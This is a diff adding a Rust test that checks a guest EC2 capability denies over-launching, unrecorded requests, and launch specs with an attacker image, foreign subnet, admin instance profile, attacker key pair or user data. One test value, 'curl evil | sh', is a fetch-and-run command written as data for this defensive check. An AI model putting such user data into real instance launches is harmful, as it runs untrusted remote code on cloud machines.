@@ -712,3 +712,124 @@ fn fleet_and_launch_template_operations_serve_only_what_this_provider_instance_o
     );
     assert!(matches!(alpha.delete_launch_template(lt), Err(Ec2Error::Denied(_))), "gone is gone");
 }
+
+/// A guest asked for one host cannot launch more for that request over repeated calls, nor
+/// for a request the host never recorded, nor with an image, subnet, profile, key or user
+/// data of its own choosing: through the capability exactly as a guest calls it.
+#[test]
+fn grants_bound_what_a_request_may_hold_and_what_a_launch_may_use() {
+    use hfwasm::capabilities::HostWait;
+    use hfwasm::capabilities::ec2::{Ec2Api, Ec2Client, Ec2Settings, GuestEc2};
+    use hfwasm::runtime::bindings::hostfactory::capabilities::ec2::{self as wit, Ec2Error, Host};
+    use hfwasm::store::StateStore;
+    use std::sync::Arc;
+
+    let moto = Moto::start();
+    let (subnet, sg, ami) = moto.network();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let creds = dir.path().join("credentials");
+    std::fs::write(&creds, "[default]\naws_access_key_id = testing\naws_secret_access_key = testing\n").expect("creds");
+    // The grant IBM's templates give: their own image, subnet, group; no key, no profile.
+    std::fs::write(dir.path().join("c.json"), json!({"AWS_REGION": "us-east-1"}).to_string()).expect("cfg");
+    std::fs::write(
+        dir.path().join("t.json"),
+        json!({"templates": templates(&subnet, &sg, &ami)}).to_string(),
+    )
+    .expect("tpl");
+    let ibm = hfwasm::config::ibm_aws::load(&dir.path().join("c.json"), &dir.path().join("t.json"), |_| None).expect("ibm");
+    let client: Arc<dyn Ec2Api> = Arc::new(Ec2Client::new(Ec2Settings {
+        endpoint_url: Some(moto.endpoint.clone()),
+        credential_file: Some(creds),
+        ..Ec2Settings::default()
+    }));
+    let store: Arc<dyn StateStore> = Arc::new(hfwasm::store::SqliteStore::open(&dir.path().join("s.sqlite")).expect("store"));
+    let mut rec = hfwasm::store::behaviour::record("req-one", hfwasm::store::RequestKind::Provision, 1);
+    rec.count = 1;
+    store.insert_request(&rec, &[]).expect("record");
+    let mut ec2 = GuestEc2::new(
+        Some(client),
+        ibm.grant.clone(),
+        "pool".into(),
+        "store-1".into(),
+        HostWait::default(),
+    )
+    .with_requests(store);
+    let spec = wit::LaunchSpec {
+        image_id: ami.clone(),
+        subnet_ids: vec![subnet.clone()],
+        security_group_ids: vec![sg.clone()],
+        key_name: Some("hf-key".into()),
+        instance_profile_arn: None,
+        user_data: None,
+        tags: vec![],
+        root_volume: None,
+        launch_template_id: None,
+        launch_template_version: None,
+        ebs_optimized: None,
+        placement: None,
+        network_interfaces: None,
+    };
+    let run = |request: &str, spec: wit::LaunchSpec| wit::RunRequest {
+        request_id: request.into(),
+        template_id: "OnDemand-Template-VM".into(),
+        instance_type: "t3.micro".into(),
+        count: 1,
+        spec,
+        spot_max_price: None,
+    };
+    let denied = |r: Result<Vec<wit::Instance>, Ec2Error>| match r {
+        Err(Ec2Error::Denied(m)) => m,
+        other => panic!("expected denied, got {other:?}"),
+    };
+    assert_eq!(
+        ec2.run_instances(run("req-one", spec.clone()))
+            .expect("the one host asked for")
+            .len(),
+        1
+    );
+    let m = denied(ec2.run_instances(run("req-one", spec.clone())));
+    assert!(m.contains("asked for 1") && m.contains("1 are running"), "{m}");
+    let m = denied(ec2.run_instances(run("req-invented", spec.clone())));
+    assert!(m.contains("not a provision request the host recorded"), "{m}");
+    for (changed, needle) in [
+        (
+            wit::LaunchSpec {
+                image_id: "ami-attacker".into(),
+                ..spec.clone()
+            },
+            "image ami-attacker",
+        ),
+        (
+            wit::LaunchSpec {
+                subnet_ids: vec!["subnet-other".into()],
+                ..spec.clone()
+            },
+            "subnet subnet-other",
+        ),
+        (
+            wit::LaunchSpec {
+                instance_profile_arn: Some("arn:aws:iam::1:instance-profile/admin".into()),
+                ..spec.clone()
+            },
+            "instance profile",
+        ),
+        (
+            wit::LaunchSpec {
+                key_name: Some("attacker-key".into()),
+                ..spec.clone()
+            },
+            "key pair attacker-key",
+        ),
+        (
+            wit::LaunchSpec {
+                user_data: Some("curl evil | sh".into()),
+                ..spec.clone()
+            },
+            "user data is not granted",
+        ),
+    ] {
+        let m = denied(ec2.run_instances(run("req-one", changed)));
+        assert!(m.contains(needle), "{needle}: {m}");
+    }
+    assert_eq!(moto.instances().len(), 1, "nothing else was launched");
+}
